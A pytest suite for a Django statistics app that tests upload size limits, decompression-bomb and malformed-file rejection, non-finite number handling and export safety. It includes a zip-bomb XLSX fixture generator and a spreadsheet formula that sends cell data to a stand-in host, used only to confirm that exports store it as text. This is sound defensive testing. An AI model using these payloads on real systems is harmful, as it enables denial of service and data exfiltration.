"""Bounded work and clear errors for every input (issue 10): upload size limits enforced while streaming, staged
uploads deleted, decompression bombs and malformed files refused with file/row/column in the user's language
(upload page and command line, exit 2), non-finite numbers refused at import and never emitted by the API."""

from __future__ import annotations

import io
import json
import math
import os
import re
import time
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from yhteiso.analytics.readers import common, geo
from yhteiso.analytics.readers.common import ReaderError
from yhteiso.analytics.readers.table import read_header
from yhteiso.areas.models import Area, AreaLevel
from yhteiso.areas.services import area_get_or_create_city, area_set_names, boundaries_import
from yhteiso.knowledge.models import Computation, ImportBatch, ImportKind, IndexValue, Observation
from yhteiso.knowledge.services import statistics_import
from yhteiso.knowledge.tests.conftest import GRID_CODES, TABLE_DATASET, grid_table

PX_DIR = Path(__file__).resolve().parents[2] / "analytics" / "tests" / "data" / "statfin_px"
FORM = {"kind": "table", "level": "postal_area", "dataset": "grid", "publisher": "P", "licence": "CC BY 4.0",
        "attribution": "Lähde: P", "area_column": "code", "year": "2024"}


def _post(client, data: bytes, name: str, **extra):
    return client.post(reverse("knowledge:upload"), {**FORM, **extra, "file": SimpleUploadedFile(name, data)},
                       HTTP_ACCEPT_LANGUAGE="fi")


def _nothing_imported():
    return not Observation.objects.exists() and not ImportBatch.objects.exists()


# --- upload size and staging ----------------------------------------------------------------------------------
@pytest.mark.django_db
def test_an_upload_over_the_limit_is_dropped_while_streaming_with_a_finnish_message(client, staff_user, grid_areas,
                                                                                   settings, tmp_path):
    settings.DATA_DIR = tmp_path
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 64 * 1024
    client.force_login(staff_user)
    big = grid_table(2024) + b"".join(b"99999,%d,1,1,1,1,1,1,1,1\n" % i for i in range(20000))
    assert len(big) > 5 * settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    response = _post(client, big, "big.csv", dry_run="on")
    assert response.status_code == 200
    page = response.content.decode()
    assert "suurempi kuin 0.0625 Mt" in page or "suurempi kuin 0.0625 MB" in page
    assert response.wsgi_request.FILES.get("file") is None  # never kept
    assert _nothing_imported()
    assert not list((tmp_path / "uploads").glob("*.bin")) if (tmp_path / "uploads").exists() else True


def _staged(page: str) -> str:
    return page.split('name="staged" value="')[1].split('"')[0]


@pytest.mark.django_db
def test_staged_uploads_are_deleted_after_confirm_cancel_and_expiry(client, staff_user, grid_areas, settings,
                                                                     tmp_path):
    settings.DATA_DIR = tmp_path
    client.force_login(staff_user)
    uploads = tmp_path / "uploads"
    # confirm
    staged = _staged(_post(client, grid_table(2024), "grid.csv", dry_run="on").content.decode())
    assert (uploads / f"{staged}.bin").exists()
    response = client.post(reverse("knowledge:upload"), {**FORM, "staged": staged, "staged_name": "grid.csv"})
    assert response.status_code == 302  # the import runs as a background job, which deletes the file when done
    # cancel
    staged = _staged(_post(client, grid_table(2023), "grid23.csv", dry_run="on", year="2023").content.decode())
    assert (uploads / f"{staged}.bin").exists()
    response = client.post(reverse("knowledge:upload"), {**FORM, "staged": staged, "cancel": "1"})
    assert response.status_code == 302 and not (uploads / f"{staged}.bin").exists()
    # expiry: a preview never confirmed is gone after YHTEISO_STAGED_UPLOAD_SECONDS
    staged = _staged(_post(client, grid_table(2022), "grid22.csv", dry_run="on", year="2022").content.decode())
    old = time.time() - settings.YHTEISO_STAGED_UPLOAD_SECONDS - 10
    os.utime(uploads / f"{staged}.bin", (old, old))
    client.get(reverse("knowledge:upload"))
    assert not (uploads / f"{staged}.bin").exists()


# --- XLSX bombs ---------------------------------------------------------------------------------------------------
def _xlsx_with_sheet(sheet_xml_chunks, total_rows_hint: int = 0) -> bytes:
    """A minimal workbook whose first sheet is streamed from chunks (so a 50 MB sheet costs little to build)."""
    buf = io.BytesIO()
    book = openpyxl.Workbook()
    template = io.BytesIO()
    book.save(template)
    with zipfile.ZipFile(template) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                with out.open(item.filename, "w") as sheet:
                    for chunk in sheet_xml_chunks:
                        sheet.write(chunk)
            else:
                out.writestr(item, src.read(item.filename))
    return buf.getvalue()


def _bomb_chunks(rows: int):
    yield (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
           b'<row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c><c r="B1" t="inlineStr"><is><t>population'
           b'</t></is></c></row>')
    row = b'<row><c t="inlineStr"><is><t>00100</t></is></c><c><v>1</v></c></row>'
    block = row * 10_000
    for _ in range(rows // 10_000):
        yield block
    yield b"</sheetData></worksheet>"


def test_a_small_xlsx_that_expands_enormously_is_refused_before_opening():
    bomb = _xlsx_with_sheet(_bomb_chunks(600_000))
    assert len(bomb) < 1_000_000
    start = time.perf_counter()
    with pytest.raises(ReaderError) as err:
        read_header(bomb, filename="bomb.xlsx")
    assert time.perf_counter() - start < 2
    assert err.value.code == "xlsx_ratio" and err.value.file == "bomb.xlsx"
    assert "sheet1.xml" in str(err.value)


def test_the_declared_uncompressed_size_and_the_row_limit_are_enforced(monkeypatch):
    from yhteiso.analytics.readers import tabular

    small = _xlsx_with_sheet(_bomb_chunks(20_000))
    monkeypatch.setattr(tabular, "MAX_XLSX_UNCOMPRESSED_BYTES", 100_000)
    with pytest.raises(ReaderError, match="expands to"):
        tabular.read_rows(small, filename="big.xlsx")
    monkeypatch.setattr(tabular, "MAX_XLSX_UNCOMPRESSED_BYTES", 10**9)
    monkeypatch.setattr(tabular, "MAX_XLSX_RATIO", 10**6)
    monkeypatch.setattr(tabular, "MAX_ROWS", 1000)
    with pytest.raises(ReaderError, match="more than 1000 rows"):
        tabular.read_rows(small, filename="rows.xlsx")
    with pytest.raises(ReaderError, match="more than 1000 rows"):
        tabular.read_rows(b"a,b\n" + b"1,2\n" * 5000, filename="rows.csv")


# --- malformed files ----------------------------------------------------------------------------------------------
def _px_zlib() -> bytes:
    raw = (PX_DIR / "statfin_vaerak_pxt_11rc.px").read_bytes()
    assert b"CODEPAGE=" in raw
    return re.sub(rb'CODEPAGE="[^"]*"', b'CODEPAGE="zlib"', raw, count=1)


def _geojson_string_coordinates() -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"code": "A"},
                       "geometry": {"type": "Polygon", "coordinates": [["24.1", "60.1"]]}}]}).encode()


def _truncated_xlsx() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["code", "population"])
    for i in range(2000):
        book.active.append([f"{i:05d}", i])
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()[: len(buf.getvalue()) // 2]


MALFORMED = [
    ("px", "zlib.px", _px_zlib(), "CODEPAGE"),
    ("boundaries", "strings.geojson", _geojson_string_coordinates(), "koordinaatit"),
    ("table", "wide.csv", b"code,population\n00100," + b"1" * 200_000 + b"\n", "pidempi kuin"),
    ("table", "truncated.xlsx", _truncated_xlsx(), "XLSX"),
    ("table", "garbage.csv", bytes(range(256)) * 50, "ei ole tekstiä"),
    ("table", "utf16.csv", "code,population\n00100,5\n".encode("utf-16"), "UTF-16"),
    ("table", "huge.csv", b"code,population\n00100,1e300\n", "liian suuri"),
    ("table", "inf.csv", b"code,population\n00100,inf\n", "ei ole äärellinen"),
    ("table", "comma.csv", b'code,population\n00100,"12,5"\n', "desimaalipilkku"),
    ("jsonstat", "nan.json", b'{"version": "2.0", "class": "dataset", "value": [NaN]}', "NaN"),
    ("jsonstat", "deep.json", b"[" * 100_000 + b"]" * 100_000, "sisäkkäinen"),
    ("boundaries", "nan.geojson", b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": '
     b'{"code": "A"}, "geometry": {"type": "Point", "coordinates": [NaN, 1]}}]}', "NaN"),
    ("paavo", "garbage.dbf", b"\x03" + b"\xff" * 40, "dBASE"),
    ("table", "bom.csv", b"\xef\xbb\xbf", "tyhjä"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("kind", "name", "data", "finnish"), MALFORMED, ids=[m[1] for m in MALFORMED])
def test_a_malformed_file_gives_a_finnish_error_on_the_upload_page_and_exit_2_on_the_command_line(
        client, staff_user, grid_areas, tmp_path, capsys, kind, name, data, finnish):
    from yhteiso.cli import main

    client.force_login(staff_user)
    extra = {"kind": kind, "area_dimension": "Alue", "dry_run": "on"}
    if kind == "paavo":
        extra.update(release_year="2019", year="")
    response = _post(client, data, name, **extra)
    assert response.status_code == 200
    page = response.content.decode()
    assert "Mitään ei tuotu" in page and name in page, page[:3000]
    assert finnish in page
    assert _nothing_imported()
    path = tmp_path / name
    path.write_bytes(data)
    level = ["--level", "postal_area"]
    args = {"table": ["--area-column", "code", "--year", "2024", *level],
            "px": ["--area-dimension", "Alue", *level], "jsonstat": ["--area-dimension", "Alue", *level],
            "paavo": ["--release-year", "2019"], "boundaries": level}[kind]
    assert main(["import", kind, str(path), *args, "--dry-run"]) == 2
    last = capsys.readouterr().err.strip().splitlines()[-1]
    assert last.startswith("Nothing was imported.") and name in last


def test_every_reason_code_has_a_translated_message(settings):
    from django.utils import translation

    from yhteiso.analytics.readers.common import REASONS
    from yhteiso.knowledge.reader_messages import MESSAGES, reason

    assert set(MESSAGES) == set(REASONS)
    with translation.override("fi"):
        text = reason(ReaderError.of("not_a_number", file="a.csv", row=3, column="x", value="abc"))
    assert text == "”abc” ei ole luku" or text.startswith("“abc”") or "ei ole luku" in text


# --- numbers: non-finite values never reach the API ---------------------------------------------------------------
@pytest.mark.django_db
def test_1e300_is_refused_at_import_and_nothing_is_saved(grid_areas):
    data = grid_table(2024).replace(b"\n00100,1000,", b"\n00100,1e300,", 1)
    with pytest.raises(ReaderError) as err:
        statistics_import(kind=ImportKind.TABLE, data=data, filename="huge.csv", level=AreaLevel.POSTAL_AREA,
                          dataset=TABLE_DATASET, options={"area_column": "code", "year": 2024})
    assert err.value.code == "too_large" and err.value.row == 2 and err.value.column == "population"
    assert _nothing_imported()


@pytest.mark.django_db
def test_the_api_never_emits_non_finite_json(client, grid_areas):
    statistics_import(kind=ImportKind.TABLE, data=grid_table(2024), filename="g.csv", level=AreaLevel.POSTAL_AREA,
                      dataset=TABLE_DATASET, options={"area_column": "code", "year": 2024})
    value = IndexValue.objects.filter(area__isnull=True).first()
    assert value is not None
    IndexValue.objects.filter(pk=value.pk).update(value=float("inf"))
    response = client.get("/api/v1/indices")
    assert response.status_code == 200
    body = json.loads(response.content, parse_constant=lambda c: pytest.fail(f"{c} in JSON"))
    assert any(v["value"] is None and v["computation"] == value.computation_id for v in body)
    assert Computation.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["/api/v1/meetings?year=-1", "/api/v1/meetings?year=99999999999999999999",
                                 "/api/v1/projects/99999999999999999999", "/api/v1/areas/%00",
                                 "/api/v1/reports/-1"])
def test_odd_api_values_answer_400_or_404_with_short_json(client, url):
    response = client.get(url)
    assert response.status_code in (400, 404, 422), (url, response.status_code)
    assert len(response.content) < 500


# --- boundaries: a million vertices -------------------------------------------------------------------------------
def _million_vertex_geojson(n: int = 1_000_000) -> bytes:
    """A circle of radius 400 m drawn with a million vertices and a ripple of ±8 m (in EPSG:3067)."""
    t = np.linspace(0, 2 * np.pi, n, endpoint=False)
    radius = 400.0 * (1 + 0.02 * np.sin(t * 60))
    xy = np.round(np.column_stack([380500 + radius * np.cos(t), 6670500 + radius * np.sin(t)]), 3).tolist()
    ring = [*xy, xy[0]]
    features = [{"type": "Feature", "properties": {"code": "00100", "name": "Monikulmio"},
                 "geometry": {"type": "Polygon", "coordinates": [ring]}},
                {"type": "Feature", "properties": {"code": "00200", "name": "Neliö"},
                 "geometry": {"type": "Polygon", "coordinates": [[[381000, 6670000], [382000, 6670000],
                                                                  [382000, 6671000], [381000, 6671000],
                                                                  [381000, 6670000]]]}}]
    return json.dumps({"type": "FeatureCollection", "crs": {"type": "name", "properties": {
        "name": "urn:ogc:def:crs:EPSG::3067"}}, "features": features}).encode()


@pytest.mark.django_db
@pytest.mark.slow
def test_a_million_vertex_boundary_is_simplified_once_at_import_and_pages_stay_fast(client, monkeypatch):
    import shapely
    from shapely.geometry import shape

    area_get_or_create_city(code="049", name_fi="Espoo")
    data = _million_vertex_geojson()
    report = boundaries_import(data=data, filename="dense.geojson", level=AreaLevel.POSTAL_AREA, parent="049",
                               parent_level=AreaLevel.CITY, attribution="Rajat: testi", licence="CC BY 4.0")
    assert report.simplified == 1 and report.created == 2
    dense = Area.objects.get(code="00100")
    stored = shapely.get_num_coordinates(shape(dense.geometry))
    shown = shapely.get_num_coordinates(shape(dense.geometry_wgs84))
    assert stored <= common.MAX_STORED_VERTICES and shown <= common.MAX_DISPLAY_VERTICES
    assert shape(dense.geometry).is_valid and shape(dense.geometry).area == pytest.approx(math.pi * 400**2, rel=0.02)
    assert dense.land_area_m2 == pytest.approx(math.pi * 400**2, rel=0.02)
    timings = {}
    for url in ["/alueet/", "/api/v1/areas/00100/geometry", "/tietopohja/alue/00100/",
                "/tietopohja/kartta/?level=postal_area"]:
        client.get(url)  # warm up templates and caches
        start = time.perf_counter()
        response = client.get(url)
        assert response.status_code == 200, url
        timings[url] = time.perf_counter() - start
    assert max(timings.values()) < 2, timings  # 17–21 s before: the million vertices were drawn on every page
    monkeypatch.setattr(geo, "MAX_BOUNDARY_VERTICES", 500_000)
    with pytest.raises(ReaderError) as err:
        boundaries_import(data=data.replace(b"00100", b"00300"), filename="denser.geojson",
                          level=AreaLevel.POSTAL_AREA)
    assert err.value.code == "too_many_vertices" and err.value.row == 1


# --- exports: formula-like text stays text ------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"klikkaa")'


@pytest.mark.django_db
def test_the_knowledge_export_keeps_an_area_name_starting_with_equals_as_text(client, grid_areas):
    area_set_names(names={GRID_CODES[0]: {"fi": FORMULA}}, level="postal_area")
    statistics_import(kind=ImportKind.TABLE, data=grid_table(2024), filename="g.csv", level="postal_area",
                      dataset=TABLE_DATASET, options={"area_column": "code", "year": 2024})
    response = client.get("/tietopohja/kartta/vienti.xlsx?level=postal_area")
    assert response.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(response.content))["data"]
    cell = next(c for row in ws.iter_rows() for c in row if c.value == FORMULA)
    assert cell.data_type == "s"
